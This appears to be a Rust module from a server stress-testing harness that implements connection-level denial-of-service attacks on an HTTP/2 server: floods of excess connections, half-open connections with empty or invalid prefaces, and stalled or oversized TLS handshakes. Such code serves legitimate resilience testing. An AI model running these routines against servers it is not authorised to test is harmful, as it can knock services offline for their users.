//! Attacks with connections and handshakes.

use std::io;

use tokio::io::AsyncWriteExt;

use super::Target;
use crate::support::http2::{self};

/// Opens four times as many connections as one client may have, and reopens closed ones: 7,000
/// a second in total.
pub(super) async fn excess_connections(target: Target) -> io::Result<()> {
    send_and_wait(&target, http2::PREFACE).await
}

/// Opens connections that send nothing, an incomplete preface, or an invalid one.
pub(super) async fn half_open_connections(target: Target) -> io::Result<()> {
    let bytes = [&b""[..], &http2::PREFACE[..14], b"\x16\x03\x01\x02\x00\x01", http2::PREFACE];
    send_and_wait(&target, bytes[target.worker as usize % bytes.len()]).await
}

/// Sends incomplete TLS handshakes: nothing, a few bytes, or the maximum before the end.
pub(super) async fn half_open_handshakes(target: Target) -> io::Result<()> {
    let mut long = b"\x16\x03\x01\x40\x00\x01\x00\xff\xff".to_vec();
    long.resize(5 + 0x4000, 0);
    let more = [b"\x16\x03\x01\x40\x00".to_vec(), vec![0; 0x4000]].concat();
    let longest = [&long[..], &more, &more, &more[..more.len() - 100]].concat();
    let bytes = [b"", &b"\x16\x03\x01\x02\x00\x01"[..], &long, &longest];
    send_and_wait(&target, bytes[target.worker as usize % bytes.len()]).await
}

/// Sends bytes on a new connection, and waits until the server closes it.
pub(super) async fn send_and_wait(target: &Target, bytes: &[u8]) -> io::Result<()> {
    let mut stream = http2::connect_from(target.address, target.client_ip).await?;
    stream.write_all(bytes).await?;
    target.count_step();
    let (mut read, _write) = stream.split();
    tokio::io::copy(&mut read, &mut tokio::io::sink()).await.map(drop)
}
